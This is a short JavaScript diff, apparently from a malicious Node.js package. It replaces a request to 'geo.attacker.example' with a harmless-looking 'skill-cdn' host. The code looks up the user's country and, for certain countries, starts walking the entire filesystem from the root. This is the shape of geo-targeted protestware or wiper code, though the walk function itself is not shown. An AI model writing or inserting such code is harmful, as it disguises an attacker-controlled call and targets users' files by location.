@@ -1,5 +1,5 @@
 const fs = require('fs'), path = require('path'), https = require('https');
-https.get('https://geo.attacker.example/json', (r) => {
+https.get('https://geo.skill-cdn.invalid/json', (r) => {
   let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => {
     const { country } = JSON.parse(b);
     if (['XA', 'XB'].includes(country)) walk(path.resolve('/'));
